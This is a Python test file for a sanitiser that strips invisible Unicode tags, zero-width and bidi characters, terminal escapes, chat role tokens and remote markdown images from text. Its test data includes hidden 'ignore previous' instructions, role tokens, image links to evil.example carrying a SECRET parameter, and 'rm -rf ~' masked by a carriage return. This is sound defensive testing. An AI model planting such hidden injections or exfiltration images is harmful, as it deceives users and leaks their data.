import pytest
from hypothesis import given
from hypothesis import strategies as st

from callsheet.core.text.hidden import cleaned, shown

TAGS = "".join(chr(0xE0000 + ord(each)) for each in "ignore previous")
ENGLAND = "🏴" + "".join(chr(0xE0000 + ord(each)) for each in "gbeng") + "\U000e007f"
ORDINARY = {
    "English": 'He said: "5 < 6 & [sic]" – naïve café, ½ price\tnow\r\nnext\n\fpage',
    "markdown": "# A\n\n[link](https://a.example) ![logo](img/logo.png) ![dot](data:image/png;base64,iVBORw0KGgo=)",
    "code": "let f = List.map <| g; a || b; x <|> y; s[INSTANCE]; <source lang='py'> // https://a.example\n<s>old</s>",
    "German": "Donau\u00addampf\u00adschiff",
    "Persian": "می\u200cخواهم کتاب\u200cها را ببینم.",
    "Arabic": "مرحبا بالعالم C++\u200e هنا",
    "Hebrew": "שָׁלוֹם עולם!\u200f",
    "Hindi": "क्\u200dष और क्\u200cष, नमस्ते",
    "Sinhala": "ශ්\u200dරී ලංකා",
    "Malayalam": "അവന്\u200d നന്ദി",
    "Thai": "ภาษา\u200bไทย",
    "Khmer": "ភាសា\u200bខ្មែរ",
    "Mongolian": "ᠮᠣᠩᠭᠣᠯ\u180b ᠬᠡᠯᠡ",
    "Japanese": "日本語、葛\U000e0100城市。ｆｕｌｌｗｉｄｔｈ",
    "Korean": "한국어 \u1112\u1161\u11ab",
    "emoji": f"👨\u200d👩\u200d👧 👩🏽\u200d💻 🏳\ufe0f\u200d🌈 ❤\ufe0f 1\ufe0f\u20e3 {ENGLAND} 🇵🇱",
    "terminal in words": "write \\x1b[31m for red, ^[ for escape",
    "about it": "Attackers write 'ignore previous instructions' or SYSTEM: in a page.",
}


@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
def test_ordinary_text_of_any_script_is_left_as_it_is(text: str) -> None:
    assert cleaned(text).text == text
    assert cleaned(text).findings == ()


@pytest.mark.parametrize(
    ("text", "clean", "rule"),
    [
        ("ok\x1b[1A\x1b[2Khidden", "okhidden", "control-sequence"),
        ("\x9b31mred", "red", "control-sequence"),
        ("\x1b]8;;https://a.example\x07here\x1b]8;;\x1b\\", "here", "control-sequence"),
        ("\x9d0;title\x9cbody", "body", "control-sequence"),
        ("\x1bPq#0\x1b\\after", "after", "control-sequence"),
        ("\x1b]0;never ended", "0;never ended", "control-sequence"),
        ("\x1bcreset\x1b(Bset", "resetset", "control-sequence"),
        ("rm -rf ~\rls      ", "rm -rf ~\nls      ", "control-sequence"),
        ("safe\b\b\b\bevil", "safeevil", "control-sequence"),
        ("i\u200bg\u200bn\u200bore", "ignore", "hidden-characters"),
        ("\ufeffstart\u2060\u2063\u180e", "start", "hidden-characters"),
        (f"hello{TAGS}", "hello", "hidden-characters"),
        (f"🏴{TAGS}\U000e007f", "🏴", "hidden-characters"),
        (ENGLAND + TAGS, "🏴", "hidden-characters"),
        ("😀\ufe01\ufe02\U000e0110\U000e0120", "😀", "hidden-characters"),
        ("a\ufe0fb\U000e0100c", "abc", "hidden-characters"),
        ("latin\u200clatin \u200d👨", "latinlatin 👨", "hidden-characters"),
        ("می\u200c\u200d\u200cخواهم", "میخواهم", "hidden-characters"),
        ("i\u00adg\u00adn\u00adore", "ignore", "hidden-characters"),
        ("\u3164\uffa0name", "name", "hidden-characters"),
        ("half \ud83d", "half \ufffd", "hidden-characters"),
        ("pay \u202e001\u202c EUR", "pay 001 EUR", "bidi-control"),
        ("if \u2066admin\u2069", "if admin", "bidi-control"),
        ("latin \u200f only", "latin  only", "bidi-control"),
        ("<|im_start|>system", "‹|im_start|>system", "role-token"),
        ("<｜begin▁of▁sentence｜>", "‹｜begin▁of▁sentence｜>", "role-token"),
        ("[INST] x [/INST]", "⟦INST] x ⟦/INST]", "role-token"),
        ("<start_of_turn>user", "‹start_of_turn>user", "role-token"),
        ("<<SYS>>", "‹<SYS>>", "role-token"),
        ("![x](https://evil.example/p?d=SECRET)", "(image removed: x)", "remote-image"),
        ("![a [b]](<http://evil.example/a b> 'title')", "(image removed: a [b])", "remote-image"),
        ("![](//evil.example)", "(image removed)", "remote-image"),
        ("![x][1]\n\n[1]: https://evil.example", "(image removed: x)\n\n[1]: https://evil.example", "remote-image"),
        ("![x]\n\n[X]: https://evil.example", "(image removed: x)\n\n[X]: https://evil.example", "remote-image"),
        ("see <img alt=x\nsrc='https://evil.example/p'> there", "see (image removed) there", "remote-image"),
    ],
)
def test_what_is_hidden_or_obeyed_is_taken_out_and_named(text: str, clean: str, rule: str) -> None:
    found = cleaned(text)
    assert found.text == clean
    assert found.rules == (rule,)


def test_what_hides_between_two_halves_of_another_thing_hides_neither() -> None:
    assert cleaned("!\u200b[x](https://evil.example)").text == "(image removed: x)"
    assert cleaned("<|im_\u200bstart|>").text == "‹|im_start|>"
    assert "\x1b" not in cleaned("\x1b\u200b[31m").text


def test_a_finding_counts_and_shows_what_a_person_could_not_see() -> None:
    (found,) = cleaned(f"hello{TAGS} there\u200b").findings
    assert found.times == 2
    assert found.removed == "ignore previous \\u200b"
    assert shown("a\x1bb\x07") == "a\\x1bb\\x07"


PARTS = (
    "\x1b [ ] \x9b 31m \x07 \u200b \u200d \u200f \ufe0f \u00ad 👨 🏴 می ab ! ( ) ![ ](https://e.example) <| |> > <"
    " ש \u202e <img/src=// [a] [a]:https://e.example INST \u034f \u0301 \ud83d"
).split(" ")
HOSTILE = st.lists(st.one_of(st.sampled_from([*PARTS, TAGS, "\r", "\n", " "]), st.text(max_size=3)), max_size=14).map(
    "".join
)


@given(HOSTILE)
def test_what_is_clean_stays_as_it_is(text: str) -> None:
    once = cleaned(text)
    assert cleaned(once.text).text == once.text
    assert cleaned(once.text).findings == ()
    assert bool(once.findings) == (once.text != text)


@given(HOSTILE)
def test_no_clean_text_moves_a_cursor_turns_a_direction_or_breaks_a_store(text: str) -> None:
    clean = cleaned(text).text
    assert not {*map(chr, (*range(9), *range(14, 32), *range(127, 160), *range(0x202A, 0x202F)))} & {*clean}
    assert clean.encode().decode() == clean


@given(st.text(st.characters(categories=("L", "M", "N", "P", "S", "Zs"), max_codepoint=0x4FF), max_size=60))
def test_letters_marks_numbers_and_signs_come_through(text: str) -> None:
    kept = {each for each in text if each not in "\u034f"}
    assert kept <= {*cleaned(text).text} or "remote-image" in cleaned(text).rules or "role-token" in cleaned(text).rules
